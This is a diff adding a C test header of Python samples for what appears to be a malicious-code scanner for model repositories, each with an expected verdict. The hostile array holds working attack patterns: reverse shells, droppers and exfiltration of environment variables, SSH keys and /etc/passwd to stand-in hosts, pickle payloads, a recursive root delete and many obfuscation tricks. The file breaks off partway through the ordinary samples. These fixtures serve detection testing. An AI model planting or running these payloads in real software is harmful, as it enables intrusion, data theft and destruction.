@@ -1,0 +1,1108 @@
+/* python_samples.h - Python as attackers write it, and as model repositories hold it. Payloads are inert: addresses that do not
+ * exist, commands that only tell who runs them. Expected: the verdict of the check alone. */
+#ifndef GH_TEST_PYTHON_SAMPLES_H
+#define GH_TEST_PYTHON_SAMPLES_H
+#include "format/rule.h"
+
+struct python_sample {
+	const char *what; /* a name ending in .pth: lines that run at every start */
+	enum gh_verdict least; /* hostile: this or worse; ordinary: this or better */
+	const char *text;
+};
+
+/* clang-format off */
+static const struct python_sample hostile[] = {
+	{ "add", GH_UNSAFE,
+	  "class X: pass\n"
+	  "X.__add__=exec\n"
+	  "X()+\"1\"\n" },
+	{ "alias", GH_UNSAFE,
+	  "import os\n"
+	  "s=os.system\n"
+	  "t=s\n"
+	  "t(\"id\")\n" },
+	{ "alias_branch", GH_UNSAFE,
+	  "import os,sys\n"
+	  "if len(sys.argv)>5:\n"
+	  "    f=print\n"
+	  "else:\n"
+	  "    f=os.system\n"
+	  "f(\"id\")\n" },
+	{ "alias_branch2", GH_UNSAFE,
+	  "import os,sys\n"
+	  "if len(sys.argv)>5:\n"
+	  "    f=os.system\n"
+	  "else:\n"
+	  "    f=print\n"
+	  "f(\"id\")\n" },
+	{ "asyncio", GH_UNSAFE,
+	  "import asyncio\n"
+	  "asyncio.run(asyncio.create_subprocess_shell(\"id\"))\n" },
+	{ "atexit", GH_UNSAFE,
+	  "import atexit,os\n"
+	  "atexit.register(os.system,\"id\")\n" },
+	{ "attrgetter", GH_UNSAFE,
+	  "import operator,os\n"
+	  "operator.attrgetter(\"system\")(os)(\"id\")\n" },
+	{ "attrs", GH_UNSAFE,
+	  "import os\n"
+	  "class A: pass\n"
+	  "a=A()\n"
+	  "a.f=os.system\n"
+	  "a.f(\"id\")\n" },
+	{ "b64exec", GH_UNSAFE,
+	  "import base64\n"
+	  "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL3guZXhhbXBsZS9wIHwgc2giKQ=="
+	  "\"))\n" },
+	{ "b64exec2", GH_UNSAFE,
+	  "from base64 import b64decode as d\n"
+	  "eval(compile(d(b\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL3guZXhhbXBsZS9wIHwgc2giKQ==\").de"
+	  "code(),\"x\",\"exec\"))\n" },
+	{ "bashrc", GH_UNSAFE,
+	  "open(\"/root/.bashrc\",\"a\").write(\"curl http://x.example|sh\")\n" },
+	{ "bomb_b85", GH_UNSAFE,
+	  "import base64\n"
+	  "exec(base64.b85decode('X>D+Ca&#bXb2}h!b1rjvb97~GC?aEZa%>=IbaZe!FE4m5Wq4t2aBO8Sa3Fjjb7&$d'))\n" },
+	{ "broken", GH_UNSAFE,
+	  "import os\n"
+	  "os.system(\"id\")\n"
+	  "def f(:\n" },
+	{ "broken2", GH_REVIEW,
+	  "def f(:\n"
+	  "\n"
+	  "import os\n"
+	  "os.system(\"id\")\n" },
+	{ "builtins_dict", GH_UNSAFE,
+	  "__builtins__.__dict__[\"exec\"](\"import os\\nos.system('id')\")\n" },
+	{ "chr", GH_UNSAFE,
+	  "exec(\"\".join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,"
+	  "116,101,109,40,34,99,117,114,108,32,104,116,116,112,58,47,47,120,46,101,120,97,109,112,108,101,4"
+	  "7,112,32,124,32,115,104,34,41]))\n" },
+	{ "chrmap", GH_UNSAFE,
+	  "exec(\"\".join(map(chr,[105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,"
+	  "109,40,34,99,117,114,108,32,104,116,116,112,58,47,47,120,46,101,120,97,109,112,108,101,47,112,32"
+	  ",124,32,115,104,34,41])))\n" },
+	{ "classbody", GH_UNSAFE,
+	  "import os\n"
+	  "class C:\n"
+	  "    os.system(\"id\")\n" },
+	{ "classgetitem", GH_UNSAFE,
+	  "import os\n"
+	  "class X:\n"
+	  "    __class_getitem__=os.system\n"
+	  "X[\"id\"]\n" },
+	{ "commands", GH_UNSAFE,
+	  "import commands\n"
+	  "commands.getoutput(\"id\")\n" },
+	{ "comp", GH_UNSAFE,
+	  "[f(\"id\") for f in [__import__(\"os\").system]]\n" },
+	{ "conftest", GH_UNSAFE,
+	  "import subprocess\n"
+	  "def pytest_configure(config):\n"
+	  "    subprocess.run(\"curl http://x.example|sh\",shell=True)\n" },
+	{ "cookie", GH_UNSAFE,
+	  "# -*- coding: utf-7 -*-\n"
+	  "import os\n"
+	  "+AG8AcwAu-system(\"id\")\n" },
+	{ "cron", GH_UNSAFE,
+	  "import os\n"
+	  "os.system(\"(crontab -l; echo '* * * * * curl x|sh')|crontab -\")\n" },
+	{ "ctxmgr", GH_UNSAFE,
+	  "import os\n"
+	  "class C:\n"
+	  "    __enter__=lambda s: os.system(\"id\")\n"
+	  "    __exit__=lambda *a: None\n"
+	  "with C(): pass\n" },
+	{ "ctypes", GH_UNSAFE,
+	  "import ctypes\n"
+	  "sc=b\"\\x90\\x90\"\n"
+	  "p=ctypes.windll.kernel32.VirtualAlloc(0,len(sc),0x3000,0x40)\n"
+	  "ctypes.windll.kernel32.RtlMoveMemory(p,sc,len(sc))\n" },
+	{ "ctypes2", GH_UNSAFE,
+	  "import ctypes,mmap\n"
+	  "m=mmap.mmap(-1,100,prot=7)\n"
+	  "m.write(b\"\\x90\")\n"
+	  "ctypes.CFUNCTYPE(ctypes.c_int)(0x1000)()\n" },
+	{ "ctypes3", GH_REVIEW,
+	  "import ctypes\n"
+	  "ctypes.CDLL(None).system(b\"id\")\n" },
+	{ "deco", GH_UNSAFE,
+	  "import os\n"
+	  "@os.system\n"
+	  "@(lambda f:\"id\")\n"
+	  "def x(): pass\n" },
+	{ "deco2", GH_UNSAFE,
+	  "@exec\n"
+	  "@lambda c: \"import os;os.system('id')\"\n"
+	  "class X: pass\n" },
+	{ "deco_exec", GH_UNSAFE,
+	  "@exec\n"
+	  "@input\n"
+	  "class X: pass\n" },
+	{ "decoder", GH_UNSAFE,
+	  "def d(s):\n"
+	  "    return \"\".join(chr(ord(c)-1) for c in s)\n"
+	  "getattr(__import__(d(\"pt\")),d(\"tztufn\"))(d(\"je\"))\n" },
+	{ "default", GH_UNSAFE,
+	  "import os\n"
+	  "def f(x=os.system(\"id\")): pass\n" },
+	{ "dictdisp", GH_UNSAFE,
+	  "import os\n"
+	  "d={\"a\":os.system}\n"
+	  "d[\"a\"](\"id\")\n" },
+	{ "discord", GH_UNSAFE,
+	  "import requests,platform\n"
+	  "requests.post(\"https://discord.com/api/webhooks/1/2\",json={\"content\":platform.node()})\n" },
+	{ "dnsexf", GH_UNSAFE,
+	  "import socket,getpass\n"
+	  "socket.gethostbyname(getpass.getuser()+\".x.example\")\n" },
+	{ "dnsexf2", GH_UNSAFE,
+	  "import socket\n"
+	  "h=socket.gethostname()\n"
+	  "socket.getaddrinfo(f\"{h}.x.example\",80)\n" },
+	{ "dropper", GH_UNSAFE,
+	  "import urllib.request,subprocess,os\n"
+	  "urllib.request.urlretrieve(\"http://x.example/a\",\"/tmp/a\")\n"
+	  "os.chmod(\"/tmp/a\",0o755)\n"
+	  "subprocess.Popen([\"/tmp/a\"])\n" },
+	{ "dropper2", GH_UNSAFE,
+	  "import requests,os,tempfile\n"
+	  "p=tempfile.mktemp()\n"
+	  "with open(p,\"wb\") as f:\n"
+	  "    f.write(requests.get(\"http://x.example/a\").content)\n"
+	  "os.system(p)\n" },
+	{ "envkey", GH_REVIEW,
+	  "import os,requests\n"
+	  "class Model:\n"
+	  "  def __init__(self):\n"
+	  "    requests.get(\"http://x.example/?k=\"+os.environ[\"AWS_SECRET_ACCESS_KEY\"])\n" },
+	{ "envpost", GH_UNSAFE,
+	  "import os,requests\n"
+	  "requests.post(\"http://x.example\",json=dict(os.environ))\n" },
+	{ "envpost2", GH_UNSAFE,
+	  "import os,urllib.request,json\n"
+	  "d=json.dumps({k:v for k,v in os.environ.items()}).encode()\n"
+	  "urllib.request.urlopen(\"http://x.example\",data=d)\n" },
+	{ "fexec", GH_REVIEW,
+	  "import os\n"
+	  "c=\"id\"\n"
+	  "exec(f\"os.system({c!r})\")\n" },
+	{ "forloop", GH_UNSAFE,
+	  "import os\n"
+	  "for f in (os.system,):\n"
+	  "    f(\"id\")\n" },
+	{ "forwardexec", GH_UNSAFE,
+	  "import torch\n"
+	  "class M(torch.nn.Module):\n"
+	  "    def forward(self,x):\n"
+	  "        eval(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL3guZXhhbXBsZS9wIHwg"
+	  "c2giKQ==\"))\n"
+	  "        return x\n" },
+	{ "fromas", GH_UNSAFE,
+	  "from os import system as print\n"
+	  "print(\"id\")\n" },
+	{ "fromhex", GH_UNSAFE,
+	  "exec(bytes.fromhex(\"696d706f7274206f733b206f732e73797374656d28226375726c20687474703a2f2f782e657"
+	  "8616d706c652f70207c2073682229\"))\n" },
+	{ "fullwidth", GH_UNSAFE,
+	  "import os\n"
+	  "\357\275\205\357\275\230\357\275\205\357\275\203(\"import os\\nos.system('id')\")\n" },
+	{ "functype", GH_UNSAFE,
+	  "import types,marshal\n"
+	  "types.FunctionType(marshal.loads(b"
+	  "\""
+	  "\\x"
+	  "63"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "03"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "f3"
+	  "\\x"
+	  "2e"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "97"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "64"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "64"
+	  "\\x"
+	  "01"
+	  "\\x"
+	  "6c"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "5a"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "02"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "65"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "6a"
+	  "\\x"
+	  "01"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "64"
+	  "\\x"
+	  "02"
+	  "\\x"
+	  "a6"
+	  "\\x"
+	  "01"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "ab"
+	  "\\x"
+	  "01"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "01"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "64"
+	  "\\x"
+	  "01"
+	  "\\x"
+	  "53"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "29"
+	  "\\x"
+	  "03"
+	  "\\x"
+	  "e9"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "4e"
+	  "\\x"
+	  "7a"
+	  "\\x"
+	  "1c"
+	  "\\x"
+	  "63"
+	  "\\x"
+	  "75"
+	  "\\x"
+	  "72"
+	  "\\x"
+	  "6c"
+	  "\\x"
+	  "20"
+	  "\\x"
+	  "68"
+	  "\\x"
+	  "74"
+	  "\\x"
+	  "74"
+	  "\\x"
+	  "70"
+	  "\\x"
+	  "3a"
+	  "\\x"
+	  "2f"
+	  "\\x"
+	  "2f"
+	  "\\x"
+	  "78"
+	  "\\x"
+	  "2e"
+	  "\\x"
+	  "65"
+	  "\\x"
+	  "78"
+	  "\\x"
+	  "61"
+	  "\\x"
+	  "6d"
+	  "\\x"
+	  "70"
+	  "\\x"
+	  "6c"
+	  "\\x"
+	  "65"
+	  "\\x"
+	  "2f"
+	  "\\x"
+	  "70"
+	  "\\x"
+	  "20"
+	  "\\x"
+	  "7c"
+	  "\\x"
+	  "20"
+	  "\\x"
+	  "73"
+	  "\\x"
+	  "68"
+	  "\\x"
+	  "29"
+	  "\\x"
+	  "02"
+	  "\\x"
+	  "da"
+	  "\\x"
+	  "02"
+	  "\\x"
+	  "6f"
+	  "\\x"
+	  "73"
+	  "\\x"
+	  "da"
+	  "\\x"
+	  "06"
+	  "\\x"
+	  "73"
+	  "\\x"
+	  "79"
+	  "\\x"
+	  "73"
+	  "\\x"
+	  "74"
+	  "\\x"
+	  "65"
+	  "\\x"
+	  "6d"
+	  "\\x"
+	  "a9"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "f3"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "da"
+	  "\\x"
+	  "01"
+	  "\\x"
+	  "78"
+	  "\\x"
+	  "fa"
+	  "\\x"
+	  "08"
+	  "\\x"
+	  "3c"
+	  "\\x"
+	  "6d"
+	  "\\x"
+	  "6f"
+	  "\\x"
+	  "64"
+	  "\\x"
+	  "75"
+	  "\\x"
+	  "6c"
+	  "\\x"
+	  "65"
+	  "\\x"
+	  "3e"
+	  "\\x"
+	  "72"
+	  "\\x"
+	  "07"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "01"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "73"
+	  "\\x"
+	  "26"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "f0"
+	  "\\x"
+	  "03"
+	  "\\x"
+	  "01"
+	  "\\x"
+	  "01"
+	  "\\x"
+	  "01"
+	  "\\x"
+	  "d8"
+	  "\\x"
+	  "00"
+	  "\\x"
+	  "09"
+	  "\\x"
+	  "80"
+	  "\\x"
+	  "09"
+	  "\\x"
+	  "80"
+	  "\\x"
+	  "09"
+	  "\\x"
+	  "80"
+	  "\\x"
+	  "09"
+	  "\\x"
+	  "88"
+	  "\\x"
+	  "39"
+	  "\\x"
+	  "88"
+	  "\\x"
+	  "32"
+	  "\\x"
+	  "8c"
+	  "\\x"
+	  "39"
+	  "\\x"
+	  "d0"
+	  "\\x"
+	  "15"
+	  "\\x"
+	  "33"
+	  "\\x"
+	  "d1"
+	  "\\x"
+	  "0b"
+	  "\\x34\\xd4\\x0b\\x34\\xd0\\x0b\\x34\\xd0\\x0b\\x34\\xd0\\x0b\\x34\\x72\\x05\\x00\\x00\\x00\"),gl"
+	  "obals())()\n" },
+	{ "generator", GH_UNSAFE,
+	  "import os\n"
+	  "any(os.system(c) for c in [\"id\"])\n" },
+	{ "getattr", GH_UNSAFE,
+	  "import os\n"
+	  "getattr(os,\"sys\"+\"tem\")(\"id\")\n" },
+	{ "getattr2", GH_UNSAFE,
+	  "g=getattr\n"
+	  "o=__import__(\"o\"+\"s\")\n"
+	  "g(o,\"metsys\"[::-1])(\"id\")\n" },
+	{ "getattr_fmt", GH_UNSAFE,
+	  "import os\n"
+	  "n=\"%s%s\"%(\"sys\",\"tem\")\n"
+	  "getattr(os,n)(\"id\")\n" },
+	{ "getattrdunder", GH_REVIEW,
+	  "from os import system\n"
+	  "class X:\n"
+	  "    __getattr__=lambda s,n: system(n)\n"
+	  "X().id\n" },
+	{ "globals", GH_UNSAFE,
+	  "globals()[\"__builtins__\"].eval(\"__import__('os').system('id')\")\n" },
+	{ "globalsfn", GH_UNSAFE,
+	  "def f():pass\n"
+	  "f.__globals__[\"__builtins__\"][\"__import__\"](\"os\").system(\"id\")\n" },
+	{ "hookpickle", GH_UNSAFE,
+	  "import torch,pickle,base64\n"
+	  "class M(torch.nn.Module):\n"
+	  "    def __init__(self):\n"
+	  "        super().__init__()\n"
+	  "        pickle.loads(base64.b64decode(\"gASV\"))\n" },
+	{ "httpx_eval", GH_UNSAFE,
+	  "import httpx\n"
+	  "r=httpx.get(\"http://x.example\")\n"
+	  "eval(r.json()[\"c\"])\n" },
+	{ "hub", GH_UNSAFE,
+	  "import torch\n"
+	  "m=torch.hub.load(\"evil/repo\",\"x\")\n" },
+	{ "importlib", GH_UNSAFE,
+	  "import importlib\n"
+	  "importlib.import_module(\"o\"+\"s\").system(\"id\")\n" },
+	{ "importlib2", GH_UNSAFE,
+	  "from importlib import import_module as m\n"
+	  "m(\"subprocess\").run(\"id\",shell=True)\n" },
+	{ "join", GH_UNSAFE,
+	  "f=\"\".join([\"s\",\"y\",\"s\",\"t\",\"e\",\"m\"])\n"
+	  "import os\n"
+	  "getattr(os,f)(\"id\")\n" },
+	{ "lambda", GH_UNSAFE,
+	  "(lambda o: o.system(\"id\"))(__import__(\"os\"))\n" },
+	{ "lambda2", GH_UNSAFE,
+	  "(lambda f,a: f(a))(__import__(\"os\").system,\"id\")\n" },
+	{ "lambda_obf", GH_UNSAFE,
+	  "_ = lambda __ : __import__(\"zlib\").decompress(__import__(\"base64\").b64decode(__[::-1]));exec"
+	  "((_)(b'==QOS8q9A0UJMIehaUoA9TFnCyNxKSdvK0ffrIgkSyYhcIq0kXaDcRtkirs49KmB2+CyRpyLI3CzLzJe'))\n" },
+	{ "listdisp", GH_UNSAFE,
+	  "import os\n"
+	  "l=[print,os.system]\n"
+	  "l[1](\"id\")\n" },
+	{ "locals", GH_UNSAFE,
+	  "import os\n"
+	  "locals()[\"os\"].system(\"id\")\n" },
+	{ "logos", GH_UNSAFE,
+	  "import logging\n"
+	  "logging.os.system(\"id\")\n" },
+	{ "map", GH_UNSAFE,
+	  "import os\n"
+	  "list(map(os.system,[\"id\"]))\n" },
+	{ "marshal", GH_UNSAFE,
+	  "import marshal,base64\n"
+	  "exec(marshal.loads(base64.b64decode('YwAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAA"
+	  "AAAAAAABkAqYBAACrAQAAAAAAAAAAAQBkAVMAKQPpAAAAAE56HGN1cmwgaHR0cDovL3guZXhhbXBsZS9wIHwgc2gpAtoCb3P"
+	  "aBnN5c3RlbakA8wAAAADaAXj6CDxtb2R1bGU+cgcAAAABAAAAcyYAAADwAwEBAdgACYAJgAmACYg5iDKMOdAVM9ELNNQLNNA"
+	  "LNNALNNALNHIFAAAA')))\n" },
+	{ "mathital", GH_UNSAFE,
+	  "\360\235\223\256\360\235\224\201\360\235\223\256\360\235\223\254(\"__import__('os').system('id')"
+	  "\")\n" },
+	{ "metaclass", GH_UNSAFE,
+	  "import os\n"
+	  "class M(type):\n"
+	  "    def __new__(m,n,b,d):\n"
+	  "        os.system(\"id\")\n"
+	  "        return type.__new__(m,n,b,d)\n"
+	  "class X(metaclass=M): pass\n" },
+	{ "methodcaller", GH_UNSAFE,
+	  "import operator,os\n"
+	  "operator.methodcaller(\"system\",\"id\")(os)\n" },
+	{ "nested", GH_UNSAFE,
+	  "def a():\n"
+	  "    def b():\n"
+	  "        import os\n"
+	  "        os.system(\"id\")\n"
+	  "    b()\n"
+	  "a()\n" },
+	{ "odict", GH_UNSAFE,
+	  "import os\n"
+	  "os.__dict__[\"sys\"+\"tem\"](\"id\")\n" },
+	{ "osexecl", GH_UNSAFE,
+	  "import os\n"
+	  "os.execl(\"/bin/sh\",\"sh\",\"-c\",\"id\")\n" },
+	{ "partial", GH_UNSAFE,
+	  "import functools,os\n"
+	  "functools.partial(os.system,\"id\")()\n" },
+	{ "passwd", GH_UNSAFE,
+	  "import urllib.request\n"
+	  "urllib.request.urlopen(\"http://x.example\",data=open(\"/etc/passwd\",\"rb\").read())\n" },
+	{ "picklelit", GH_UNSAFE,
+	  "import pickle\n"
+	  "pickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n" },
+	{ "pipinst", GH_UNSAFE,
+	  "import subprocess,sys\n"
+	  "subprocess.check_call([sys.executable,\"-m\",\"pip\",\"install\",\"evil-pkg\"])\n" },
+	{ "pipinst2", GH_UNSAFE,
+	  "import os\n"
+	  "os.system(\"pip install -q evil\")\n" },
+	{ "pipmain", GH_UNSAFE,
+	  "import pip\n"
+	  "pip.main([\"install\",\"evil\"])\n" },
+	{ "popenread", GH_UNSAFE,
+	  "import os\n"
+	  "x=os.popen(\"whoami\").read()\n" },
+	{ "posix", GH_UNSAFE,
+	  "import posix\n"
+	  "posix.system(\"id\")\n" },
+	{ "property", GH_UNSAFE,
+	  "import os\n"
+	  "class C:\n"
+	  "    @property\n"
+	  "    def x(self): os.system(\"id\")\n"
+	  "C().x\n" },
+	{ "pth.pth", GH_UNSAFE,
+	  "import os; os.system(\"id\")\n" },
+	{ "pth2.pth", GH_UNSAFE,
+	  "/usr/lib/x\n"
+	  "import base64;exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL3guZXhhbXBsZS"
+	  "9wIHwgc2giKQ==\"))\n" },
+	{ "py2exec", GH_UNSAFE,
+	  "exec \"import os; os.system('id')\"\n" },
+	{ "py2print", GH_UNSAFE,
+	  "import os\n"
+	  "print os.popen(\"cat /etc/passwd\").read()\n" },
+	{ "recv_system", GH_UNSAFE,
+	  "import socket,os\n"
+	  "s=socket.socket()\n"
+	  "s.connect((\"h\",1))\n"
+	  "while True:\n"
+	  "    d=s.recv(1024).decode()\n"
+	  "    os.system(d)\n" },
+	{ "reduce", GH_UNSAFE,
+	  "import os\n"
+	  "class E:\n"
+	  "    def __reduce__(self):\n"
+	  "        return (os.system,(\"id\",))\n" },
+	{ "reduce2", GH_UNSAFE,
+	  "import subprocess\n"
+	  "class E(object):\n"
+	  "    def __reduce__(self):\n"
+	  "        return subprocess.Popen,([\"sh\",\"-c\",\"id\"],)\n" },
+	{ "reducega", GH_UNSAFE,
+	  "import functools\n"
+	  "functools.reduce(getattr,[\"system\"],__import__(\"os\"))(\"id\")\n" },
+	{ "requests_exec", GH_UNSAFE,
+	  "import requests\n"
+	  "exec(requests.get(\"http://x.example/p.py\").text)\n" },
+	{ "revshell", GH_UNSAFE,
+	  "import socket,subprocess,os\n"
+	  "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
+	  "s.connect((\"10.0.0.1\",4242))\n"
+	  "os.dup2(s.fileno(),0)\n"
+	  "os.dup2(s.fileno(),1)\n"
+	  "subprocess.call([\"/bin/sh\",\"-i\"])\n" },
+	{ "revshell_pty", GH_UNSAFE,
+	  "import socket,pty,os\n"
+	  "s=socket.create_connection((\"10.0.0.1\",1))\n"
+	  "[os.dup2(s.fileno(),f) for f in (0,1,2)]\n"
+	  "pty.spawn(\"sh\")\n" },
+	{ "rmrf", GH_UNSAFE,
+	  "import shutil\n"
+	  "shutil.rmtree(\"/\")\n" },
+	{ "rot13", GH_UNSAFE,
+	  "import codecs\n"
+	  "exec(codecs.decode('vzcbeg bf; bf.flfgrz(\"phey uggc://k.rknzcyr/c | fu\")',\"rot13\"))\n" },
+	{ "rot13m", GH_UNSAFE,
+	  "import codecs\n"
+	  "import os\n"
+	  "getattr(os,codecs.decode(\"flfgrz\",\"rot_13\"))(\"ls\")\n" },
+	{ "runpy", GH_UNSAFE,
+	  "import runpy,urllib.request\n"
+	  "urllib.request.urlretrieve(\"http://x.example/a.py\",\"a.py\")\n"
+	  "runpy.run_path(\"a.py\")\n" },
+	{ "selff", GH_UNSAFE,
+	  "import os\n"
+	  "class A:\n"
+	  "    def __init__(self):\n"
+	  "        self.run=os.system\n"
+	  "    def forward(self,x):\n"
+	  "        self.run(\"id\")\n" },
+	{ "setattr", GH_UNSAFE,
+	  "import os,builtins\n"
+	  "setattr(builtins,\"zz\",os.system)\n"
+	  "builtins.zz(\"id\")\n" },
+	{ "setup", GH_UNSAFE,
+	  "from setuptools import setup\n"
+	  "from setuptools.command.install import install\n"
+	  "import os\n"
+	  "class I(install):\n"
+	  "    def run(self):\n"
+	  "        os.system(\"python3 stage2.py\")\n"
+	  "        install.run(self)\n"
+	  "setup(name=\"x\",cmdclass={\"install\":I})\n" },
+	{ "sitecustom", GH_UNSAFE,
+	  "import socket,os\n"
+	  "def go():\n"
+	  "    s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0);os.execl(\"/bin/sh"
+	  "\",\"sh\")\n"
+	  "go()\n" },
+	{ "spawn", GH_UNSAFE,
+	  "import pty\n"
+	  "pty.spawn(\"/bin/bash\")\n" },
+	{ "sshkey", GH_UNSAFE,
+	  "import requests,os\n"
+	  "d=open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n"
+	  "requests.post(\"http://x.example\",data=d)\n" },
+	{ "star", GH_UNSAFE,
+	  "from os import *\n"
+	  "system(\"id\")\n" },
+	{ "subclasses", GH_UNSAFE,
+	  "[c for c in ().__class__.__base__.__subclasses__() if c.__name__==\"Popen\"][0](\"id\",shell=Tru"
+	  "e)\n" },
+	{ "subclasses2", GH_UNSAFE,
+	  "x=\"\".__class__.__mro__[1].__subclasses__()\n"
+	  "x[132].__init__.__globals__[\"system\"](\"id\")\n" },
+	{ "sysmod", GH_UNSAFE,
+	  "import sys\n"
+	  "sys.modules[\"os\"].system(\"id\")\n" },
+	{ "sysmodget", GH_UNSAFE,
+	  "import sys,os\n"
+	  "sys.modules.get(\"o\"+\"s\").system(\"id\")\n" },
+	{ "table", GH_UNSAFE,
+	  "T=\"abcdefghijklmnopqrstuvwxyz\"\n"
+	  "w=T[18]+T[24]+T[18]+T[19]+T[4]+T[12]\n"
+	  "getattr(__import__(T[14]+T[18]),w)(\"id\")\n" },
+	{ "thread", GH_UNSAFE,
+	  "import threading,os\n"
+	  "threading.Thread(target=os.system,args=(\"id\",)).start()\n" },
+	{ "timeit", GH_UNSAFE,
+	  "import timeit\n"
+	  "timeit.timeit(\"__import__('os').system('id')\",number=1)\n" },
+	{ "torchos", GH_UNSAFE,
+	  "import torch\n"
+	  "torch.serialization.os.system(\"id\")\n" },
+	{ "trick_attr", GH_UNSAFE,
+	  "import os\n"
+	  "os.__getattribute__(\"system\")(\"id\")\n" },
+	{ "trycatch", GH_UNSAFE,
+	  "try:\n"
+	  "    import os as q\n"
+	  "except ImportError:\n"
+	  "    q=None\n"
+	  "if q: q.system(\"id\")\n" },
+	{ "unicodeesc", GH_UNSAFE,
+	  "exec("
+	  "\""
+	  "\\x"
+	  "69"
+	  "\\x"
+	  "6d"
+	  "\\x"
+	  "70"
+	  "\\x"
+	  "6f"
+	  "\\x"
+	  "72"
+	  "\\x"
+	  "74"
+	  "\\x"
+	  "20"
+	  "\\x6f\\x73\\x3b\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x69\\x64\\x27\\x29\")\n" },
+	{ "vars", GH_UNSAFE,
+	  "import os\n"
+	  "vars(os)[\"system\"](\"id\")\n" },
+	{ "walrus", GH_UNSAFE,
+	  "(o:=__import__(\"os\")) and o.system(\"id\")\n" },
+	{ "web", GH_REVIEW,
+	  "import webbrowser\n"
+	  "webbrowser.open(\"http://x.example\")\n" },
+	{ "xor", GH_UNSAFE,
+	  "d=bytes([67,71,90,69,88,94,10,69,89,17,10,69,89,4,89,83,89,94,79,71,2,8,73,95,88,70,10,66,94,94,"
+	  "90,16,5,5,82,4,79,82,75,71,90,70,79,5,90,10,86,10,89,66,8,3])\n"
+	  "exec(bytes(x^42 for x in d).decode())\n" },
+	{ "xorloop", GH_UNSAFE,
+	  "d=[67,71,90,69,88,94,10,69,89,17,10,69,89,4,89,83,89,94,79,71,2,8,73,95,88,70,10,66,94,94,90,16,"
+	  "5,5,82,4,79,82,75,71,90,70,79,5,90,10,86,10,89,66,8,3]\n"
+	  "s=\"\"\n"
+	  "for x in d:\n"
+	  "    s+=chr(x^42)\n"
+	  "exec(s)\n" },
+	{ "yamlload", GH_REVIEW,
+	  "import yaml\n"
+	  "yaml.load(\"!!python/object/apply:os.system [id]\",Loader=yaml.UnsafeLoader)\n" },
+	{ "zlib", GH_UNSAFE,
+	  "import zlib,base64\n"
+	  "exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2BmK94sriktRcDaXk0qIchYySkgIrff0KvdSKxNyCn"
+	  "FT9AoUaheIMJU0A9q8SOQ==')))\n" },
+};
+
+static const struct python_sample ordinary[] = {
+	{ "configuration", GH_CLEAN,
+	  "from transformers.configuration_utils import PretrainedConfig\n"
+	  "from transformers.utils import logging\n"
+	  "\n"
+	  "logger = logging.get_logger(__name__)\n"
+	  "MAP = {}\n"
+	  "\n"
+	  "\n"
+	  "class FooConfig(PretrainedConfig):\n"
+	  "    model_type = \"foo\"\n"
+	  "    keys_to_ignore_at_inference = [\"past_key_values\"]\n"
+	  "\n"
+	  "    def __init__(self, vocab_size=32000, hidden_size=4096, rope_scaling=None, **kwargs):\n"
+	  "        self.vocab_size = vocab_size\n"
+	  "        self._check(rope_scaling)\n"
+	  "        super().__init__(tie_word_embeddings=False, **kwargs)\n"
+	  "\n"
+	  "    def _check(self, r):\n"
